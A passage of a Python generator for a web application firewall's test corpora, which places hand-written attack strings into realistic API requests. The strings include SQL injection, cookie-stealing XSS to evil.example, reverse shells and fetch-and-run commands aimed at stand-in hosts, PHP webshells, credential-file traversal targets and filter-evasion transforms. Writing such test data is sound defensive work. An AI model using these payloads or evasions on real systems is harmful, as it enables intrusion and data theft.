#!/usr/bin/env python3
"""Deterministic generator for the WAF test corpora.

Writes attacks.jsonl and benign.jsonl next to this script.  Standard library
only; every random choice goes through one random.Random seeded with SEED, so
running `python3 generate.py` reproduces the committed files byte for byte.

Every base string below was written by hand for Pylon from general knowledge
of common attack classes and of ordinary API traffic; no third-party payload
list or test suite was copied.  The generator varies the base strings (case,
comments, whitespace, encodings, entities) and places them in realistic
locations of realistic API requests.
"""

import base64
import hashlib
import json
import os
import random
import re
from urllib.parse import quote, quote_plus

SEED = 20240611
ATTACKS_PER_CLASS = 160
BENIGN_COUNT = 3200

HERE = os.path.dirname(os.path.abspath(__file__))
rng = random.Random(SEED)

# --------------------------------------------------------------------------
# Shared request furniture
# --------------------------------------------------------------------------

USER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.81",
    "okhttp/4.12.0",
    "python-requests/2.31.0",
    "curl/8.5.0",
    "PylonMobile/3.14.2 (iOS 17.4; iPhone15,2)",
    "Go-http-client/2.0",
    "axios/1.6.8",
]
ACCEPT_LANGS = ["en-US,en;q=0.9", "en-GB,en;q=0.8", "de-DE,de;q=0.9,en;q=0.7",
                "fr-FR,fr;q=0.9", "ja-JP,ja;q=0.9,en;q=0.6", "zh-CN,zh;q=0.9",
                "ar-SA,ar;q=0.9,en;q=0.5", "es-ES,es;q=0.9", "pt-BR,pt;q=0.9,en;q=0.8"]
HEX = "0123456789abcdef"
ALNUM = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"


def rhex(n):
    return "".join(rng.choice(HEX) for _ in range(n))


def ralnum(n):
    return "".join(rng.choice(ALNUM) for _ in range(n))


def ruuid():
    h = rhex(32)
    return "%s-%s-4%s-%s%s-%s" % (h[:8], h[8:12], h[13:16], rng.choice("89ab"), h[17:20], h[20:32])


def b64url(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def rbytes(n):
    return bytes(rng.getrandbits(8) for _ in range(n))


def jwt():
    header = b64url(b'{"alg":"HS256","typ":"JWT"}')
    iat = 1704067200 + rng.randrange(0, 15000000)
    payload = {"sub": str(rng.randrange(1, 99999)), "iat": iat, "exp": iat + 3600,
               "scope": rng.choice(["read", "read write", "orders:read profile"])}
    body = b64url(json.dumps(payload, separators=(",", ":")).encode())
    return "%s.%s.%s" % (header, body, b64url(rbytes(32)))


def boundary():
    return "----WebKitFormBoundary" + ralnum(16)


def base_headers(accept="application/json"):
    h = {"User-Agent": rng.choice(USER_AGENTS), "Accept": accept}
    if rng.random() < 0.4:
        h["Accept-Language"] = rng.choice(ACCEPT_LANGS)
    if rng.random() < 0.3:
        h["Authorization"] = "Bearer " + jwt()
    return h


def multipart(fields, files=()):
    """fields: [(name, value)], files: [(name, filename, ctype, content)]"""
    b = boundary()
    parts = []
    for name, value in fields:
        parts.append('--%s\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n' % (b, name, value))
    for name, filename, ctype, content in files:
        parts.append('--%s\r\nContent-Disposition: form-data; name="%s"; filename="%s"\r\n'
                     'Content-Type: %s\r\n\r\n%s\r\n' % (b, name, filename, ctype, content))
    parts.append("--%s--\r\n" % b)
    return "multipart/form-data; boundary=" + b, "".join(parts)


def rec(cls, method, uri, headers, body=""):
    r = {}
    if cls is not None:
        r["class"] = cls
    r["method"] = method
    r["uri"] = uri
    r["headers"] = headers
    if body:
        r["body"] = body
    return r


def dumps(r):
    return json.dumps(r, ensure_ascii=False, separators=(", ", ": "))


# --------------------------------------------------------------------------
# Attack base strings (hand-written)
# --------------------------------------------------------------------------

SQLI = [
    "' OR 1=1--",
    "' OR '1'='1",
    "' OR 'x'='x' -- -",
    "admin'--",
    "admin' #",
    "\" OR \"\"=\"",
    "1 OR 1=1",
    "1' OR 1=1 LIMIT 1 -- -",
    "1) OR (1=1",
    "') OR ('a'='a",
    "1 UNION SELECT username,password FROM users",
    "-1 UNION ALL SELECT NULL,NULL,NULL--",
    "0' UNION SELECT table_name,NULL FROM information_schema.tables-- -",
    "-5 UNION SELECT 1,@@version,user(),database()",
    "1' UNION SELECT column_name,2 FROM information_schema.columns WHERE table_name='users'-- -",
    "x' UNION SELECT load_file('/etc/passwd'),2-- -",
    "1' UNION SELECT '<?php system($_GET[0]); ?>' INTO OUTFILE '/var/www/html/s.php'-- -",
    "'; DROP TABLE users;--",
    "1; DROP TABLE orders",
    "'; DELETE FROM accounts WHERE '1'='1",
    "'; INSERT INTO users(username,password,role) VALUES('eve','x','admin');--",
    "1; UPDATE users SET role='admin' WHERE id=1--",
    "1' AND SLEEP(5)-- -",
    "1 OR SLEEP(5)#",
    "1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -",
    "1 AND BENCHMARK(5000000,MD5(1))",
    "'; SELECT pg_sleep(5)--",
    "1;SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--",
    "1'; WAITFOR DELAY '0:0:5'--",
    "1; EXEC xp_cmdshell('whoami')--",
    "1' AND extractvalue(1,concat(0x7e,version()))-- -",
    "1' AND updatexml(1,concat(0x7e,(SELECT user())),1)-- -",
    "1 AND 1=CONVERT(int,@@version)--",
    "1' AND ASCII(SUBSTRING((SELECT password FROM users WHERE username='admin'),1,1))>64-- -",
    "1' AND (SELECT COUNT(*) FROM users)>0-- -",
    "1' ORDER BY 10-- -",
    "1 GROUP BY 1,2,3 HAVING 1=1--",
    "' || (SELECT version()) || '",
    "id,(SELECT 1 FROM (SELECT SLEEP(5))x)",
    "1' AND 1=(SELECT COUNT(*) FROM sysobjects)--",
    "' AND 1=0 UNION SELECT name,pass FROM members WHERE '1'='1",
    "1' RLIKE SLEEP(5)-- -",
]

XSS = [
    "<script>alert(1)</script>",
    "<script>alert(document.cookie)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script>fetch('https://evil.example/c?'+document.cookie)</script>",
    "<script>document.location='https://evil.example/steal?c='+document.cookie</script>",
    "<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>",
    "\"><script>alert(1)</script>",
    "</title><script>alert(document.domain)</script>",
    "</textarea><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(document.cookie)>",
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
    "<img src=x onerror=fetch('https://evil.example/?c='+document.cookie)>",
    "<svg onload=alert(1)>",
    "<svg onload=alert(document.domain)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"javascript:alert(document.cookie)\">profile</a>",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "\" onmouseover=\"alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<div onmouseover=alert(1)>hover me</div>",
    "javascript:alert(1)",
    "javascript:alert(document.cookie)//",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
]

TRAV_UNIX_TARGETS = ["etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ",
                     "root/.ssh/id_rsa", "etc/group", "var/log/nginx/access.log",
                     "home/app/.aws/credentials", "proc/self/cmdline", "etc/ssh/sshd_config"]
TRAV_WIN_TARGETS = ["windows/win.ini", "windows/system32/drivers/etc/hosts", "boot.ini",
                    "inetpub/wwwroot/web.config", "windows/repair/sam"]
TRAV_APP_TARGETS = [".env", "config/database.yml", "WEB-INF/web.xml", ".git/config",
                    "app/config/parameters.yml", "wp-config.php"]
# URL-level ("wire") forms of one "../" step, paired with the target kind.
TRAV_SEQS_UNIX = ["../", "..%2f", "..%2F", "%2e%2e%2f", "%2e%2e/", "%2E%2E%2F",
                  "..%252f", "%252e%252e%252f", "..%c0%af", "....//", "..;/", ".%2e/"]
TRAV_SEQS_WIN = ["..\\", "..%5c", "..%5C", "%2e%2e%5c", "..%255c", "../"]
TRAV_ABSOLUTE = ["/etc/passwd", "/etc/shadow", "file:///etc/passwd", "/proc/self/environ",
                 "C:\\windows\\win.ini", "file:///c:/windows/win.ini"]
TRAV_UPLOAD_TARGETS = ["var/www/html/shell.php", "etc/cron.d/job", "root/.ssh/authorized_keys",
                       "home/app/.bashrc", "opt/app/templates/index.html"]

CMDI_UNIX = [
    "; cat /etc/passwd",
    "; cat /etc/shadow",
    "| id",
    "|| id",
    "; id",
    "& whoami",
    "&& whoami",
    "$(whoami)",
    "`id`",
    "$(cat /etc/passwd)",
    "`cat /etc/passwd`",
    "; uname -a",
    "&& wget http://203.0.113.7/x.sh -O /tmp/x.sh",
    "; wget http://198.51.100.23/bot -O- | sh",
    "|| curl http://evil.example/s.sh | sh",
    "; curl -d @/etc/passwd http://evil.example/collect",
    "; nc -e /bin/sh 198.51.100.7 4444",
    "; bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
    "; rm -rf /tmp/*",
    "; sleep 10",
    "| sleep 5",
    "$(sleep 5)",
    "; ping -c 10 127.0.0.1",
    "; ls -la /",
    "; echo c2ggLWkgPiYgL2Rldi90Y3AvMTAuMC4wLjEvOTAwMSAwPiYx | base64 -d | sh",
    "; python3 -c 'import os;os.system(\"id\")'",
    "; perl -e 'exec \"/bin/sh\"'",
    "; /bin/sh -c id",
    "| tail -n 50 /var/log/auth.log",
    "; chmod 777 /etc/passwd",
    "; echo hacked > /var/www/html/index.html",
    "$(curl -s http://evil.example/$(whoami))",
]
CMDI_WIN = [
    "& type C:\\windows\\win.ini",
    "| dir C:\\",
    "& ping -n 10 127.0.0.1 &",
    "| net user",
    "&& ipconfig /all",
    "& powershell -c \"Invoke-WebRequest http://evil.example/a.exe -OutFile a.exe\"",
    "| certutil -urlcache -split -f http://evil.example/p.exe p.exe",
    "& whoami /priv",
]
CMDI_PREFIXES = {"host": ["127.0.0.1", "8.8.8.8", "example.com", "10.0.0.5", ""],
                 "ip": ["192.168.1.1", "127.0.0.1", ""],
                 "domain": ["example.com", "shop.example.org", ""],
                 "filename": ["report.pdf", "invoice-2024.csv", "photo.jpg", ""],
                 "target": ["localhost", "api.internal", ""],
                 "email": ["bob@example.com", ""]}

B64_SYSTEM_ID = base64.b64encode(b"system('id');").decode()
B64_PHP_SHELL = base64.b64encode(b"<?php system($_GET['c']); ?>").decode()
PHP = [
    "<?php system($_GET['c']); ?>",
    "<?php system($_REQUEST['cmd']); ?>",
    "<?php eval($_POST['x']); ?>",
    "<?php echo shell_exec($_GET['e']); ?>",
    "<?= `$_GET[0]` ?>",
    "<?php passthru('id'); ?>",
    "<?php phpinfo(); ?>",
    "<?php @eval(base64_decode($_POST['z'])); ?>",
    "<?php file_put_contents('s.php', '<?php system($_GET[1]); ?>'); ?>",
    "<?php include($_GET['p']); ?>",
    "eval(base64_decode('%s'));" % B64_SYSTEM_ID,
    "assert($_REQUEST['a'])",
    "assert('system(\"id\")')",
    "passthru('cat /etc/passwd')",
    "shell_exec('wget http://evil.example/s.txt -O s.php')",
    "system('id')",
    "exec('whoami', $o)",
    "popen('id', 'r')",
    "proc_open('id', array(), $pipes)",
    "phpinfo()",
    "file_put_contents('shell.php', file_get_contents('http://evil.example/s.txt'))",
    "call_user_func('system', 'id')",
    "array_map('system', array('id'))",
    "create_function('', 'system(\"id\");')",
    "preg_replace('/.*/e', 'system(\"id\")', '')",
    "${@eval($_POST[1])}",
    "${system($_GET['c'])}",
    "php://input",
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=string.rot13/resource=config.php",
    "data://text/plain;base64,%s" % B64_PHP_SHELL,
    "expect://id",
    "phar://uploads/avatar.jpg/shell.php",
    "O:8:\"stdClass\":1:{s:3:\"cmd\";s:2:\"id\";}",
    "a:1:{i:0;O:10:\"Evil\\Gadget\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}}",
]
PHP_FUNCS = ["system", "eval", "shell_exec", "passthru", "phpinfo", "assert", "exec",
             "popen", "proc_open", "file_put_contents", "base64_decode", "call_user_func",
             "array_map", "create_function", "preg_replace", "include", "file_get_contents"]

SQL_KEYWORDS = ["SELECT", "UNION", "ALL", "FROM", "WHERE", "AND", "OR", "ORDER", "BY", "GROUP",
                "HAVING", "SLEEP", "BENCHMARK", "DROP", "TABLE", "INSERT", "INTO", "VALUES",
                "UPDATE", "SET", "DELETE", "EXEC", "WAITFOR", "DELAY", "NULL", "LIMIT", "CASE",
                "WHEN", "THEN", "ELSE", "END", "CONCAT", "SUBSTRING", "ASCII", "VERSION", "USER",
                "LOAD_FILE", "OUTFILE", "RLIKE", "CONVERT", "COUNT", "EXTRACTVALUE", "UPDATEXML",
                "PG_SLEEP", "DATABASE", "MD5"]
SQL_KW_RE = re.compile(r"\b(%s)\b" % "|".join(SQL_KEYWORDS), re.I)

# --------------------------------------------------------------------------
# Evasions (string level, before placement)
# --------------------------------------------------------------------------


def rand_case(word):
    out = "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in word)
    if out == word or out == word.upper() or out == word.lower():
        letters = [i for i, c in enumerate(word) if c.isalpha()]
        if len(letters) >= 2:
            i = letters[1]
            base = word.upper()
            out = base[:i] + base[i].lower() + base[i + 1:]
    return out


def sql_mixed(p):
    return SQL_KW_RE.sub(lambda m: rand_case(m.group(0)), p) if SQL_KW_RE.search(p) else None


def sql_comment_space(p):
    return p.replace(" ", "/**/") if " " in p else None


def sql_comment_keyword(p):
    if re.search(r"\bUNION\b", p):
        return p.replace("UNION", "UN/**/ION", 1).replace(" ", "/**/")
    if re.search(r"\bSELECT\b", p):
        return p.replace("SELECT", "SEL/**/ECT", 1)
    return None


def sql_versioned(p):
    if re.search(r"\b(UNION|SELECT|SLEEP)\b", p):
        return re.sub(r"\b(UNION|SELECT|SLEEP)\b", lambda m: "/*!50000%s*/" % m.group(1), p)
    return None


def sql_whitespace(p):
    if " " not in p:
        return None
    return "".join(rng.choice(["\t", "\n", "  ", "\r\n", " \t "]) if c == " " else c for c in p)


def sql_mixed_comment(p):
    q = sql_mixed(p)
    return sql_comment_space(q) if q else None


SQLI_EVASIONS = [("none", lambda p: p), ("mixed_case", sql_mixed), ("comment_space", sql_comment_space),
                 ("comment_keyword", sql_comment_keyword), ("versioned_comment", sql_versioned),
                 ("whitespace", sql_whitespace), ("mixed_case+comment", sql_mixed_comment)]


def xss_mixed(p):
    changed = re.sub(r"<(/?)([a-zA-Z]+)", lambda m: "<" + m.group(1) + rand_case(m.group(2)), p)
    changed = re.sub(r"\b(on[a-z]+)=", lambda m: rand_case(m.group(1)) + "=", changed)
    changed = re.sub(r"javascript:", lambda m: rand_case("javascript") + ":", changed)
    return changed if changed != p else None


def xss_slash(p):
    m = re.search(r"<(svg|img|body|input|details|audio|marquee|iframe|embed|video|div) ", p)
    if not m:
        return None
    return p[:m.end() - 1] + "/" + p[m.end():]


def xss_whitespace(p):
    m = re.search(r"<[a-z]+( [^>]*)>", p)
    if not m or " " not in m.group(1):
        return None
    inner = re.sub(r" (?=[a-z]+=|autofocus|open)", lambda _: rng.choice(["\n", "\t", "\r\n", "\x0c", "  "]), m.group(1))
    return p[:m.start(1)] + inner + p[m.end(1):] if inner != m.group(1) else None


def xss_entity(p):
    """Character references inside an attribute value; the HTML parser decodes
    them before the URL or the event handler sees the value."""
    if "<" in p and "javascript:" in p:
        ent = rng.choice(["&#x6a;", "&#106;", "&#X6A;", "&#0000106;", "&#x6A"])
        if ent == "&#x6A":  # no semicolon: still decoded in attribute values
            return p.replace("javascript:", "&#x6A;avascript&#58;", 1)
        return p.replace("javascript:", ent + "avascript:", 1)
    m = re.search(r"\bon[a-z]+=[\"']?alert", p)
    if m:
        style = rng.choice(["a", "paren", "all"])
        if style == "a":
            return p.replace("alert", "&#97;lert", 1)
        if style == "paren":
            return re.sub(r"alert\((\w*|document\.\w+)\)", lambda mm: "alert&#40;%s&#41;" % mm.group(1), p, 1)
        return p.replace("alert", "&#x61;&#x6c;&#x65;&#x72;&#x74;", 1)
    return None


def xss_scheme_tab(p):
    if "<" in p and "\"javascript:" in p:
        return p.replace("javascript:", rng.choice(["java&#x09;script:", "java\tscript:", "jav&#x0A;ascript:"]), 1)
    return None


XSS_EVASIONS = [("none", lambda p: p), ("mixed_case", xss_mixed), ("slash_separator", xss_slash),
                ("whitespace", xss_whitespace), ("html_entity_in_attribute", xss_entity),
                ("scheme_whitespace", xss_scheme_tab)]


def cmd_ifs(p):
    if " " not in p.strip():
        return None
    lead = re.match(r"^[;|&`$( ]*", p).group(0)
    rest = p[len(lead):]
    return lead + rest.replace(" ", rng.choice(["${IFS}", "$IFS$9", "${IFS}"]))


def cmd_tab(p):
    return p.replace(" ", "\t") if " " in p else None


def cmd_quote_split(p):
    m = re.search(r"\b(cat|id|whoami|uname|wget|curl|nc|bash|sleep|ls|ping|python3|perl|chmod|tail)\b", p)
    if not m:
        return None
    w = m.group(1)
    if len(w) < 2:
        return None
    i = rng.randrange(1, len(w))
    q = rng.choice(["''", '""', "\\"])
    return p[:m.start()] + w[:i] + q + w[i:] + p[m.end():]


def cmd_glob(p):
    if "/etc/passwd" in p:
        return p.replace("/etc/passwd", rng.choice(["/e??/p?ss??", "/et*/pass*", "/???/??ss??"]))
    if "cat " in p:
        return p.replace("cat ", "/???/c?t ", 1)
    return None


def cmd_newline(p):
    if p.startswith(";"):
        return rng.choice(["\n", "\r\n"]) + p[1:].lstrip()
    return None


def cmd_brace(p):
    m = re.match(r"^; (cat|ls|uname|id|sleep) (\S+)$", p)
    if not m:
        return None
    return ";{%s,%s}" % (m.group(1), m.group(2))


CMDI_EVASIONS = [("none", lambda p: p), ("ifs", cmd_ifs), ("tab", cmd_tab), ("quote_split", cmd_quote_split),
                 ("glob", cmd_glob), ("newline_separator", cmd_newline), ("brace_expansion", cmd_brace)]


def win_caret(p):
    m = re.search(r"\b(type|dir|ping|net|ipconfig|powershell|certutil|whoami)\b", p)
    if not m:
        return None
    w = m.group(1)
    return p[:m.start()] + "^".join(w) + p[m.end():]


def win_case(p):
    m = re.search(r"\b(type|dir|ping|net|ipconfig|powershell|certutil|whoami)\b", p)
    if not m:
        return None
    return p[:m.start()] + rand_case(m.group(1)) + p[m.end():]


CMDI_WIN_EVASIONS = [("none", lambda p: p), ("caret", win_caret), ("mixed_case", win_case)]


PHP_FUNC_RE = re.compile(r"\b(%s)(?=\s*\()" % "|".join(PHP_FUNCS))


def php_mixed(p):
    out = re.sub(r"<\?php", lambda m: "<?" + rand_case("php"), p)
    out = PHP_FUNC_RE.sub(lambda m: rand_case(m.group(1)), out)
    out = re.sub(r"^(php|data|expect|phar)://", lambda m: rand_case(m.group(1)) + "://", out)
    return out if out != p else None


def php_whitespace(p):
    out = PHP_FUNC_RE.sub(lambda m: m.group(1) + rng.choice([" ", "\t", "\n", "  ", "/**/"]), p)
    out = out.replace("<?php ", "<?php" + rng.choice(["\n", "\t", "\r\n", "   "]), 1)
    return out if out != p else None


def php_concat(p):
    m = re.search(r"\b(system|shell_exec|passthru|exec|popen)\(", p)
    if not m or p[:m.start()].count("'") % 2 or p[:m.start()].count('"') % 2:
        return None  # inside a string literal: splitting it with quotes would break the code
    w = m.group(1)
    i = rng.randrange(1, len(w))
    return p[:m.start()] + "('%s'.'%s')(" % (w[:i], w[i:]) + p[m.end():]


PHP_EVASIONS = [("none", lambda p: p), ("mixed_case", php_mixed), ("whitespace_or_comment", php_whitespace),
                ("string_concat_call", php_concat)]

# --------------------------------------------------------------------------
# URL encodings (location level)
# --------------------------------------------------------------------------


def enc_query(p, style):
    if style == "plus":
        return quote_plus(p, safe="'()*,/:=!$@;")
    if style == "plus_full":
        return quote_plus(p, safe="")
    if style == "full":
        return quote(p, safe="")
    if style == "keep_eq":
        return quote(p, safe="=")
    if style == "partial":
        return quote(p, safe="'()*,/:=!$@;<>\"`{}|^[]\\")
    if style == "lower_hex":
        return re.sub(r"%[0-9A-F]{2}", lambda m: m.group(0).lower(), quote(p, safe="=,"))
    if style == "double":
        return quote(quote(p, safe=""), safe="")
    raise ValueError(style)


QUERY_STYLES = ["plus", "plus_full", "full", "keep_eq", "partial", "lower_hex", "double"]
QUERY_WEIGHTS = [4, 2, 3, 2, 4, 2, 2]


def header_safe(v):
    return all(32 <= ord(c) < 127 or c == "\t" for c in v)


def cookie_enc(p):
    return quote(p, safe="!#$&'()*+/:<=>?@[]^`{|}~")


FILLER_PARAMS = [("page", lambda: str(rng.randrange(1, 20))), ("limit", lambda: rng.choice(["10", "20", "25", "50"])),
                 ("lang", lambda: rng.choice(["en", "de", "fr", "ja"])), ("v", lambda: str(rng.randrange(1, 4))),
                 ("sort", lambda: rng.choice(["name", "-created_at", "price"])), ("ref", lambda: rng.choice(["nav", "email", "home"]))]


def build_query(param, value_enc, extra=None):
    pairs = [(param, value_enc)]
    for _ in range(rng.randrange(0, 3)):
        k, f = rng.choice(FILLER_PARAMS)
        if all(k != x for x, _ in pairs):
            pairs.append((k, f()))
    if extra:
        pairs.extend(extra)
    rng.shuffle(pairs)
    return "&".join("%s=%s" % kv for kv in pairs)


# --------------------------------------------------------------------------
# Attack placement
# --------------------------------------------------------------------------

CLASS_PARAMS = {
    "sqli": ["id", "user_id", "q", "search", "category", "sort", "order", "username", "product_id", "email"],
    "xss": ["q", "search", "name", "message", "redirect", "returnUrl", "title", "comment", "next", "display_name"],
    "traversal": ["file", "path", "page", "template", "doc", "download", "img", "include", "lang", "filename"],
    "cmdi": ["host", "ip", "domain", "filename", "target", "email"],
    "php": ["page", "file", "include", "template", "cmd", "code", "data", "view", "q", "callback"],
}
CLASS_QUERY_PATHS = {
    "sqli": ["/api/v1/products", "/api/v1/users", "/api/v2/orders", "/search", "/api/v1/reports/sales", "/catalog/items"],
    "xss": ["/search", "/api/v1/search", "/login", "/auth/callback", "/profile", "/api/v1/messages/preview", "/share"],
    "traversal": ["/download", "/api/v1/files", "/index.php", "/view", "/api/v1/templates/render", "/static/image", "/export"],
    "cmdi": ["/api/v1/tools/ping", "/api/v1/diagnostics/dns", "/admin/network/traceroute", "/api/v1/convert", "/cgi-bin/status", "/api/v1/mail/verify"],
    "php": ["/index.php", "/page.php", "/api/v1/render", "/view.php", "/wp-admin/admin-ajax.php", "/include.php"],
}
CLASS_PATH_TEMPLATES = {
    "sqli": ["/api/v1/users/{}", "/api/v1/products/{}/reviews", "/api/v2/orders/{}", "/blog/posts/{}"],
    "xss": ["/u/{}", "/api/v1/tags/{}", "/search/{}", "/wiki/{}"],
    "cmdi": ["/api/v1/tools/ping/{}", "/api/v1/lookup/{}", "/cgi-bin/check/{}"],
    "php": ["/index.php/{}", "/pages/{}", "/api/v1/render/{}"],
}
FORM_ENDPOINTS = {
    "sqli": [("/login", [("username", None), ("password", "hunter2")]),
             ("/api/v1/auth/token", [("grant_type", "password"), ("username", None), ("password", "s3cret!")]),
             ("/account/reset", [("email", None)]),
             ("/search", [("q", None), ("page", "1")])],
    "xss": [("/comments", [("post_id", "118"), ("author", "Sam"), ("body", None)]),
            ("/contact", [("name", None), ("email", "sam@example.com"), ("message", "Hello")]),
            ("/profile/update", [("display_name", None), ("bio", "Hi there")]),
            ("/guestbook", [("name", "Ann"), ("entry", None)])],
    "traversal": [("/api/v1/files/read", [("path", None)]),
                  ("/admin/templates/preview", [("template", None), ("locale", "en")]),
                  ("/export", [("format", "csv"), ("file", None)])],
    "cmdi": [("/api/v1/tools/ping", [("host", None), ("count", "4")]),
             ("/admin/diagnostics", [("action", "nslookup"), ("domain", None)]),
             ("/api/v1/convert", [("filename", None), ("to", "png")]),
             ("/newsletter/subscribe", [("email", None)])],
    "php": [("/index.php", [("page", None)]),
            ("/api/v1/render", [("template", None), ("data", "{}")]),
            ("/wp-admin/admin-ajax.php", [("action", "save"), ("code", None)]),
            ("/guestbook", [("name", "Ann"), ("entry", None)])],
}
JSON_ENDPOINTS = {
    "sqli": [("POST", "/api/v1/auth/login", lambda v: {"username": v, "password": "correct-horse"}),
             ("POST", "/api/v1/search", lambda v: {"query": v, "page": 1, "per_page": 20}),
             ("POST", "/api/v1/orders/filter", lambda v: {"filter": {"status": "shipped", "customer_id": v}, "sort": "created_at"}),
             ("PATCH", "/api/v1/users/42", lambda v: {"profile": {"nickname": v}})],
    "xss": [("POST", "/api/v1/comments", lambda v: {"post_id": 77, "body": v}),
            ("PUT", "/api/v1/users/42/profile", lambda v: {"display_name": v, "timezone": "UTC"}),
            ("POST", "/api/v1/messages", lambda v: {"to": ["u_193"], "subject": "hi", "text": v}),
            ("POST", "/api/v1/products/9/reviews", lambda v: {"rating": 5, "review": {"title": v, "text": "great"}})],
    "traversal": [("POST", "/api/v1/reports/render", lambda v: {"template": v, "format": "pdf"}),
                  ("POST", "/api/v1/files/read", lambda v: {"path": v}),
                  ("PUT", "/api/v1/users/42/avatar", lambda v: {"source": {"type": "local", "file": v}})],
    "cmdi": [("POST", "/api/v1/tools/ping", lambda v: {"host": v, "count": 3}),
             ("POST", "/api/v1/webhooks/test", lambda v: {"url": "https://hooks.example.com/x", "hostname": v}),
             ("POST", "/api/v1/media/convert", lambda v: {"input": {"filename": v}, "output": "mp4"})],
    "php": [("POST", "/api/v1/render", lambda v: {"template": "home", "vars": {"title": v}}),
            ("POST", "/api/v1/plugins/settings", lambda v: {"plugin": "seo", "value": v}),
            ("POST", "/api/v1/pages", lambda v: {"slug": "about", "content": v})],
}
MULTIPART_ENDPOINTS = {
    "sqli": ("/api/v1/import", [("source", "web"), ("account", None)]),
    "xss": ("/api/v1/posts", [("title", None), ("tags", "news")]),
    "traversal": ("/api/v1/attachments", [("folder", None)]),
    "cmdi": ("/api/v1/media/thumbnail", [("filename", None), ("width", "320")]),
    "php": ("/api/v1/snippets", [("lang", "php"), ("snippet", None)]),
}
HEADER_SLOTS = {
    "sqli": ["User-Agent", "Referer", "X-Forwarded-For", "X-Tenant-Id", "X-Api-Key"],
    "xss": ["User-Agent", "Referer", "X-Forwarded-Host", "X-Client-Name"],
    "traversal": ["X-Original-URL", "X-Template", "Referer", "X-File-Name"],
    "cmdi": ["User-Agent", "X-Forwarded-For", "X-Device-Name", "Referer"],
    "php": ["User-Agent", "Referer", "X-Forwarded-For", "X-Plugin"],
}
COOKIE_NAMES = {"sqli": ["user_id", "tracking", "cart_id", "pref"], "xss": ["last_search", "display_name", "theme"],
                "traversal": ["lang", "template", "skin"], "cmdi": ["device", "host", "region"],
                "php": ["lang", "page", "pref"]}


def place(cls, payload, loc, url_level=False):
    """Return a request dict carrying payload at loc, or None if the payload
    cannot travel there (e.g. a line break in a header).  url_level means the
    payload is already in its on-the-wire URL form (traversal sequences)."""
    h = base_headers()
    if loc == "query":
        enc = payload if url_level else enc_query(payload, rng.choices(QUERY_STYLES, QUERY_WEIGHTS)[0])
        if url_level and any(c in payload for c in " #&+"):
            return None
        return rec(cls, "GET", rng.choice(CLASS_QUERY_PATHS[cls]) + "?" + build_query(rng.choice(CLASS_PARAMS[cls]), enc), h)
    if loc == "path":
        if url_level:
            if any(c in payload for c in " #?&"):
                return None
            seg = payload
            uri = rng.choice(["/static/", "/files/", "/api/v1/download/", "/assets/img/", "/"]) + seg
        else:
            seg = quote(payload, safe="") if rng.random() < 0.6 else quote(payload, safe="'()*,=!$:@")
            uri = rng.choice(CLASS_PATH_TEMPLATES[cls]).format(seg)
        return rec(cls, "GET", uri, h)
    if loc == "form":
        path, fields = rng.choice(FORM_ENDPOINTS[cls])
        if url_level:
            enc = payload
            if any(c in payload for c in " #&+"):
                return None
        else:
            enc = quote_plus(payload, safe="") if rng.random() < 0.7 else quote(payload, safe="'()*,/:!$@")
        body = "&".join("%s=%s" % (k, enc if v is None else quote_plus(v)) for k, v in fields)
        h["Content-Type"] = "application/x-www-form-urlencoded"
        return rec(cls, "POST", path, h, body)
    if loc == "json":
        method, path, mk = rng.choice(JSON_ENDPOINTS[cls])
        body = json.dumps(mk(payload), ensure_ascii=False)
        if cls == "xss" and rng.random() < 0.25:
            body = body.replace("<", "\\u003c").replace(">", "\\u003e")
        elif cls == "sqli" and "'" in payload and rng.random() < 0.25:
            body = body.replace("'", "\\u0027")
        h["Content-Type"] = "application/json"
        return rec(cls, method, path, h, body)
    if loc == "multipart":
        path, fields = MULTIPART_ENDPOINTS[cls]
        ct, body = multipart([(k, payload if v is None else v) for k, v in fields])
        h["Content-Type"] = ct
        return rec(cls, "POST", path, h, body)
    if loc == "header":
